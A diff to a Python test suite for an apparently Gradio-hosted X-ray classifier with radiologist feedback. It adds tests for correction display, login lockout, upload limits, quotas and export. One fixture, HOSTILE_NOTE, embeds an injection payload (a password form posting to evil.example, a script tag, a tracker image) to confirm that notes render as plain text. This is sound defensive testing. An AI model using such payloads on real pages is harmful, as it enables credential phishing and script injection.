@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import io
 import os
 import re
 import socket
@@ -22,6 +23,7 @@ from gradio_client.exceptions import AppError
 from PIL import Image
 
 import app
+from feedback.export import export_corrections
 from feedback.readers import hash_password, load_readers
 from feedback.store import DB_NAME, all_corrections, corrections_for
 from model.architecture import build_model
@@ -31,10 +33,17 @@ from model.config import NEGATIVE_NAME, POSITIVE_NAME, ModelConfig
 from model.images import MAX_FILE_BYTES, ImageError, file_sha256, read_grey
 from model.serving.cache import PredictionCache
 from model.serving.predictor import load_predictor
+from space import presentation as show
+from tests.server import distinct_xrays
 
 INPUT_SIZE = 64
 EXAMPLES = {Path(p).name: Path(p) for p in app.example_files()}
-READERS = {"XRAY_READERS": f"dr_plain:opensesame,dr_hashed:{hash_password('s3cret', iterations=1000)}"}
+READERS = {"XRAY_READERS": f"dr_plain:opensesame,dr_hashed:{hash_password('s3cret', iterations=1000)},"
+                           f"dr_locked:{hash_password('right', iterations=1000)}"}
+HOSTILE_NOTE = (
+    'see <form action="http://evil.example/"><input type=password name=pw></form>'
+    "<script>window.pwned = 1</script>\n![t](http://tracker.example/x.png)\n- #99 **positive** by dr_chief"
+)
 RECORD_ID = re.compile(r"record \*\*#(\d+)\*\*")
 
 
@@ -100,6 +109,12 @@ def flag(client: Client, path: Path, label: str, reader: str, password: str = ""
     return client.predict(handle_file(str(path)), label, reader, password, note, api_name="/flag")
 
 
+def shown(earlier: dict) -> dict[int, list]:
+    """The earlier-corrections table as the client gets it: record id -> its row of cells."""
+    assert earlier["headers"] == list(show.CORRECTION_COLUMNS)
+    return {int(row[0].lstrip("#")): row for row in earlier["data"]}
+
+
 def record_id(confirmation: str) -> int:
     return int(RECORD_ID.search(confirmation).group(1))
 
@@ -126,7 +141,7 @@ def test_predict_example_returns_label_decision_overlay_at_its_aspect_and_no_cor
     overlay = np.asarray(Image.open(overlay_path))
     assert overlay.shape == (*Image.open(example).size[::-1], 3)
     assert np.abs(overlay[..., 0].astype(int) - overlay[..., 2]).mean() > 5, "no heatmap colour on the grey X-ray"
-    assert "No radiologist has corrected this image yet." in earlier
+    assert earlier["data"] == []
 
 
 def test_flag_stores_one_row_and_image_copy_without_rerunning_the_network(open_app, predictor, network_runs):
@@ -142,13 +157,14 @@ def test_flag_stores_one_row_and_image_copy_without_rerunning_the_network(open_a
     assert (row.correct_label, row.reader, row.note) == ("negative", "dr_who", "no opacities")
     assert row.original_filename == "covid-1.jpg" and row.model_version == predictor.version
     assert row.predicted_label in decision.lower() and 0 <= row.probability <= 1
-    assert Path(row.image_path).read_bytes() == example.read_bytes()
-    assert f"#{row.id} **negative** by dr_who" in earlier
+    assert Path(row.image_path).suffix == ".png" and row.image_sha256 == file_sha256(example)
+    np.testing.assert_array_equal(read_grey(row.image_path), read_grey(example))
+    assert shown(earlier)[row.id][1:3] == ["COVID-19 negative", "dr_who"]
 
     again, _ = flag(client, example, "negative", "dr_who")
     assert record_id(again) == row.id and "already" in again
     assert corrections_for(root, file_sha256(example)) == [row]
-    assert f"#{row.id} **negative** by dr_who" in predict(client, example)[3]
+    assert shown(predict(client, example)[3])[row.id][-1] == "no opacities"
 
 
 @pytest.mark.parametrize("kind", ["text_as_png", "truncated_png", "blank", "dicom_no_pixels", "tiny_1x1"])
@@ -245,7 +261,7 @@ def test_a_new_file_is_previewed_and_the_old_result_cleared_before_it_is_analyse
     demo = app.build_demo(predictor, tmp_path / "feedback", {})
     step = {f.name: f.fn for f in demo.fns.values()}
     image, *cleared = step["show_file"](str(EXAMPLES["covid-2.jpg"]))
-    assert image.shape == (512, 426) and cleared == [{}, "", None, "", ""]
+    assert image.shape == (512, 426) and cleared == [{}, "", None, show.corrections_table([]), ""]
     assert step["show_file"](str(make_bad_files(tmp_path)["text_as_png"]))[0] is None
     assert step["predict_new_file"](None) == gr.skip()
     assert step["predict_new_file"](str(EXAMPLES["covid-2.jpg"]))[1].startswith("**COVID-19")
@@ -261,3 +277,109 @@ def test_prediction_cache_reuses_by_content_and_forgets_the_oldest(predictor, ne
     assert len(network_runs) - start == 3
     cache(b)
     assert len(network_runs) - start == 4
+
+
+def test_a_hostile_note_comes_back_as_plain_text_in_its_own_cell(open_app):
+    client, _, root = open_app
+    example = EXAMPLES["normal-1.png"]
+    _, earlier = flag(client, example, "positive", "dr_note", note=HOSTILE_NOTE)
+    (row,) = [c for c in corrections_for(root, file_sha256(example)) if c.reader == "dr_note"]
+    later = shown(predict(client, example)[3])
+    assert later[row.id][-1] == HOSTILE_NOTE == shown(earlier)[row.id][-1]
+    assert 99 not in later and all(cells[2] != "dr_chief" for cells in later.values())
+
+
+def test_five_wrong_passwords_then_the_right_one_is_refused_for_too_many_attempts(guarded_app):
+    client, _, root = guarded_app
+    for _ in range(5):
+        with pytest.raises(AppError, match="Unknown reader or wrong password"):
+            flag(client, EXAMPLES["covid-3.png"], "negative", "dr_locked", "wrong")
+    with pytest.raises(AppError, match="Too many attempts for reader 'dr_locked'"):
+        flag(client, EXAMPLES["covid-3.png"], "negative", "dr_locked", "right")
+    assert not [c for c in all_corrections(root) if c.reader == "dr_locked"]
+
+
+def test_unknown_reader_and_wrong_password_both_cost_one_pbkdf2_through_the_app(guarded_app, monkeypatch):
+    import hashlib
+
+    import feedback.readers
+
+    client, _, _ = guarded_app
+    calls, real = [], hashlib.pbkdf2_hmac
+    monkeypatch.setattr(feedback.readers.hashlib, "pbkdf2_hmac",
+                        lambda *args: calls.append(args[-1]) or real(*args))
+    for reader in ("dr_nobody", "dr_hashed"):
+        with pytest.raises(AppError, match="Unknown reader or wrong password"):
+            flag(client, EXAMPLES["covid-3.png"], "negative", reader, "not-the-password")
+    assert calls == [1000, 1000]
+
+
+def test_a_flagged_png_with_40_mb_of_junk_is_stored_as_the_decoded_image_under_2_mb(open_app, tmp_path):
+    client, _, root = open_app
+    padded = tmp_path / "padded.png"
+    padded.write_bytes(EXAMPLES["normal-2.png"].read_bytes() + os.urandom(40 * 2**20))
+    flag(client, padded, "uncertain", "dr_junk")
+    (row,) = [c for c in all_corrections(root) if c.reader == "dr_junk"]
+    assert Path(row.image_path).stat().st_size < 2 * 2**20 and row.image_sha256 == file_sha256(padded)
+    np.testing.assert_array_equal(read_grey(row.image_path), read_grey(EXAMPLES["normal-2.png"]))
+
+
+@pytest.mark.parametrize("setting, message", [("XRAY_FEEDBACK_QUOTA_MB", "the feedback store is full"),
+                                              ("XRAY_FEEDBACK_DAILY_FLAGS", "daily limit is 0")])
+def test_a_flag_over_a_store_quota_is_refused_and_stores_nothing(open_app, tmp_path, monkeypatch, setting, message):
+    client, _, root = open_app
+    monkeypatch.setenv(setting, "0")
+    fresh = distinct_xrays(EXAMPLES["covid-3.png"], tmp_path, 1)[0]
+    before = all_corrections(root)
+    with pytest.raises(AppError, match=f"Not stored: .*{message}"):
+        flag(client, fresh, "negative", "dr_quota")
+    assert all_corrections(root) == before
+
+
+def test_in_open_mode_a_flag_is_unverified_says_so_and_is_left_out_of_the_default_export(open_app, tmp_path):
+    client, url, root = open_app
+    confirmation, earlier = flag(client, EXAMPLES["covid-2.jpg"], "negative", "dr_open")
+    (row,) = [c for c in all_corrections(root) if c.reader == "dr_open"]
+    assert not row.verified and "unverified" in confirmation
+    assert shown(earlier)[row.id][4] == "no (open mode)"
+    assert "no reader accounts (open mode)" in httpx.get(url).text
+    export_corrections(root, tmp_path / "default")
+    assert row.image_sha256 not in (tmp_path / "default" / "MANIFEST.csv").read_text()
+    export_corrections(root, tmp_path / "all", include_unverified=True)
+    assert row.image_sha256 in (tmp_path / "all" / "MANIFEST.csv").read_text()
+
+
+def test_the_client_key_is_the_first_forwarded_address_else_the_peer():
+    from types import SimpleNamespace
+
+    from space.handlers import client_key
+
+    peer = SimpleNamespace(host="10.0.0.9")
+    forwarded = SimpleNamespace(headers={"x-forwarded-for": " 203.0.113.7, 10.0.0.1"}, client=peer)
+    assert client_key(forwarded) == "203.0.113.7"
+    assert client_key(SimpleNamespace(headers={}, client=peer)) == "10.0.0.9"
+    assert client_key(None) is None
+
+
+def test_uploads_are_deleted_from_gradios_cache_and_predictions_share_one_queue(predictor, tmp_path):
+    demo = app.build_demo(predictor, tmp_path / "feedback", {})
+    assert demo.delete_cache == app.DELETE_CACHE
+    by_name = {f.name: f for f in demo.fns.values()}
+    assert by_name["predict"].concurrency_id == by_name["predict_new_file"].concurrency_id == "network"
+    assert by_name["flag"].concurrency_id != "network"
+
+
+def test_prediction_cache_keeps_preview_size_images_within_its_byte_limit(predictor):
+    big = np.asarray(Image.open(EXAMPLES["covid-2.jpg"]).convert("L").resize((2000, 1600)))
+    images = [Image.fromarray(np.roll(big, i, axis=1)) for i in range(3)]
+    datas = []
+    for image in images:
+        buffer = io.BytesIO()
+        image.save(buffer, format="PNG")
+        datas.append(buffer.getvalue())
+    cache = PredictionCache(predictor, size=64, preview_side=512, max_bytes=600_000)
+    for data in datas:
+        _, kept = cache(data)
+        assert kept.grey.shape == (410, 512)
+    assert cache.nbytes <= 600_000 and cache.get(file_sha256(datas[0])) is None
+    assert cache.get(file_sha256(datas[-1])) is not None
